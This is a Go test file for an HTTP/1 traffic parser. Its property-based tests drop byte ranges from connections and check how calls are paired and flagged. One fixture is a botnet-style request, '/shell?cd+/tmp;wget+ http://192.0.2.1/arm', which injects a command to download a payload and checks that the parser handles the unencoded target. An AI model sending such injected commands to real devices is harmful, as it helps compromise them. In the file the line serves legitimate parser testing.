package http1

import (
	"fmt"
	"strconv"
	"strings"
	"testing"

	"pgregory.net/rapid"

	"spaniel/event"
)

// TestHoles loses a range of one direction of a connection, over every framing,
// with the hole's size known or not. No call may join a request to another's
// response, no byte may be glued over the hole, what is said to be whole is what
// was sent, and the calls the hole did not touch are whole. A client that sends
// several requests at once leaves a doubt which answer is whose: the calls say
// so.
func TestHoles(t *testing.T) {
	rapid.Check(t, func(t *rapid.T) {
		n := rapid.IntRange(2, 8).Draw(t, "calls")
		atOnce := rapid.SampledFrom([]int{1, 1, 3}).Draw(t, "at once")
		var pushes, replies []push
		bodies := map[string][2]string{}
		for i := range n {
			a, up := numberedRequest(t, i)
			b, down := numberedReply(t, i, strings.HasPrefix(a, "HEAD"))
			pushes, replies = append(pushes, req(a)), append(replies, res(b))
			if len(replies) == atOnce || i == n-1 {
				pushes, replies = append(pushes, replies...), nil
			}
			bodies[strconv.Itoa(i)] = [2]string{up, down}
		}
		dir := event.Direction(rapid.IntRange(0, 1).Draw(t, "dir"))
		hit := lose(t, pushes, dir)
		told := rapid.Bool().Draw(t, "size known")
		var whole, flagged int
		var bad string
		var led event.Ledger
		flow := new(event.Flow)
		conn := NewConn(nil, nil, flow, &led, func(c *event.Call, _ event.Stamp) {
			id := c.Resp.Get("X-Id")
			doubtful := atOnce > 1 && c.Flags.Has(event.FlagGap|event.FlagPairInferred)
			if c.Req.Seen && c.Resp.Seen && id != "" && !strings.HasPrefix(c.Req.Target, "/"+id+"/") && !doubtful {
				bad = fmt.Sprintf("%s has the answer to %s", c.Req.Target, id)
			}
			asked, _, _ := strings.Cut(strings.TrimPrefix(c.Req.Target, "/"), "/")
			for d, m := range []*event.Message{&c.Req.Message, &c.Resp.Message} {
				s := string(m.Raw)
				if strings.Trim(s, "b") != "" && strings.Trim(s, "r") != "" {
					bad = "glued: " + s
				}
				name := []string{asked, id}[d]
				if want, ok := bodies[name]; ok && m.Complete && !m.RawGap && s != want[d] && !doubtful {
					bad = fmt.Sprintf("the body %d of %s is %q, sent was %q", d, name, s, want[d])
				}
				if m.Seen && !m.Complete && c.Flags&[]event.Flags{event.FlagReqIncomplete, event.FlagRespIncomplete}[d] == 0 {
					bad = fmt.Sprintf("message %d of %s has no end, and does not say so", d, name)
				}
			}
			if c.Flags&^event.FlagPairInferred == 0 {
				whole++
			} else {
				flagged++
			}
		})
		at := event.Stamp{}
		for i, p := range pushes {
			if i == 0 || p.dir != event.ToServer || pushes[i-1].dir != event.ToServer { // requests at once are one segment
				at.Time += 1e9
				at.Frame++
				at.Clock = at.Time
			}
			for _, part := range strings.SplitAfter(p.data, "\x00") { // NUL marks where the hole is
				conn.Data(p.dir, []byte(strings.TrimSuffix(part, "\x00")), at)
				if strings.HasSuffix(part, "\x00") {
					if !told && (i > 0 || len(part) > 1) { // a connection that begins so may have begun before
						p.gap = 0
					}
					flow.Flags |= event.FlagGap
					conn.Gap(p.dir, p.gap, at)
				}
			}
		}
		conn.Close(at)
		if bad != "" || atOnce == 1 && whole < n-hit {
			t.Fatalf("%s; %d whole calls, %d flagged, of %d with %d hit: %+v", bad, whole, flagged, n, hit, pushes)
		}
	})
}

// inChunks writes body in chunks, the way some senders do it.
func inChunks(t *rapid.T, body string) string {
	var b strings.Builder
	ext := rapid.SampledFrom([]string{"", "", ";a=b"}).Draw(t, "extension")
	for size := rapid.IntRange(1, 40).Draw(t, "chunk"); body != ""; body = body[min(len(body), size):] {
		part := body[:min(len(body), size)]
		fmt.Fprintf(&b, "%x%s\r\n%s\r\n", len(part), ext, part)
	}
	trailer := rapid.SampledFrom([]string{"", "", "X-Sum: 1\r\n"}).Draw(t, "trailer")
	return b.String() + "0\r\n" + trailer + "\r\n"
}

func numberedRequest(t *rapid.T, i int) (text, body string) {
	body = strings.Repeat("b", rapid.IntRange(1, 300).Draw(t, "body"))
	switch rapid.IntRange(0, 5).Draw(t, "kind") {
	case 0:
		return fmt.Sprintf("GET /%d/ HTTP/1.1\r\nHost: x\r\n\r\n", i), ""
	case 1:
		return fmt.Sprintf("HEAD /%d/ HTTP/1.1\r\nHost: x\r\n\r\n", i), ""
	case 2:
		return fmt.Sprintf("POST /%d/ HTTP/1.1\r\nHost: x\r\nContent-Length: %d\r\n\r\n%s", i, len(body), body), body
	case 3:
		return fmt.Sprintf("POST /%d/ HTTP/1.1\r\nHost: x\r\nExpect: 100-continue\r\nContent-Length: %d\r\n\r\n%s", i, len(body), body), body
	case 4:
		return fmt.Sprintf("DELETE /%d/ HTTP/1.0\r\nConnection: keep-alive\r\nContent-Length: 0\r\n\r\n", i), ""
	}
	return fmt.Sprintf("PUT /%d/ HTTP/1.1\r\nHost: x\r\nTransfer-Encoding: chunked\r\n\r\n%s", i, inChunks(t, body)), body
}

func numberedReply(t *rapid.T, i int, head bool) (text, body string) {
	body = strings.Repeat("r", rapid.IntRange(1, 300).Draw(t, "body"))
	before := rapid.SampledFrom([]string{"", "", "", "HTTP/1.1 100 Continue\r\n\r\n", "HTTP/1.1 103 Hints\r\nLink: a\r\n\r\n"}).Draw(t, "interim")
	answer := func(line, fields string) string {
		return fmt.Sprintf("%sHTTP/1.1 %s\r\nX-Id: %d\r\n%s\r\n", before, line, i, fields)
	}
	chunked, length := "Transfer-Encoding: chunked\r\n", fmt.Sprintf("Content-Length: %d\r\n", len(body))
	switch kind := rapid.IntRange(0, 5).Draw(t, "kind"); {
	case head && kind < 3:
		return answer("200 OK", chunked), ""
	case head:
		return answer("200 OK", length), ""
	case kind == 0:
		return answer("204 No Content", ""), ""
	case kind == 1:
		return answer("304 Not Modified", length), ""
	case kind == 2:
		return answer("200 OK", "Content-Length: 0\r\n"), ""
	case kind == 3:
		return answer("200 OK", chunked) + inChunks(t, body), body
	}
	return answer("200 OK", length) + body, body
}

// lose cuts a range out of one direction, puts a mark in its place, and
// returns how many messages it touched.
func lose(t *rapid.T, pushes []push, dir event.Direction) int {
	var list []*push
	for i := range pushes {
		if pushes[i].dir == dir {
			list = append(list, &pushes[i])
		}
	}
	list = list[rapid.IntRange(0, len(list)-1).Draw(t, "first"):]
	from := rapid.IntRange(0, len(list[0].data)-1).Draw(t, "from")
	left := rapid.IntRange(1, 200).Draw(t, "bytes")
	size, hit := 0, 0
	for i, p := range list {
		end := min(len(p.data), from+left)
		size += end - from
		left -= end - from
		rest := p.data[end:]
		p.data = p.data[:from]
		if hit++; left == 0 || i == len(list)-1 {
			p.data += "\x00" + rest
			p.gap = uint64(size)
			break
		}
		from = 0
	}
	return hit
}

// TestMidstreamTargetWithSpaces picks a flow up at a request whose target was
// not encoded, as exploit tools send it.
func TestMidstreamTargetWithSpaces(t *testing.T) {
	for in, want := range map[string]int{
		"GET /shell?cd+/tmp;wget+ http://192.0.2.1/arm HTTP/1.1\r\nHost: x\r\n\r\n": 1,
		"GET the book HTTP/1.1\r\nHost: x\r\n\r\n":                                  0,
		"SEEN /a b HTTP/1.1\r\nHost: x\r\n\r\n":                                     0,
	} {
		var led event.Ledger
		n := 0
		conn := NewConn(nil, nil, &event.Flow{Flags: event.FlagMidstream}, &led, func(*event.Call, event.Stamp) { n++ })
		conn.Data(up, []byte(in), event.Stamp{})
		conn.Close(event.Stamp{})
		if n != want {
			t.Errorf("%q: %d calls, want %d", in, n, want)
		}
	}
}

// TestRequestLineCut loses a request from some byte of its first line on: it
// is reported as soon as its target is whole, and says that it is not.
func TestRequestLineCut(t *testing.T) {
	const line = "GET /images/a.gif HTTP/1.1"
	for n := range len(line) {
		want := []string{"1 -> 200 flags=response_only"}
		if n > len("GET /images/a.gif") {
			want[0] = "1 GET /images/a.gif host= -> 200 flags=gap,req_incomplete"
		}
		r := newRig(nil).run(0, req(line[:n]), hole(up, 300), res(ok0))
		if got := strings.Join(r.calls, "\n"); got != want[0] {
			t.Errorf("%q: %s, want %s", line[:n], got, want[0])
		}
	}
}
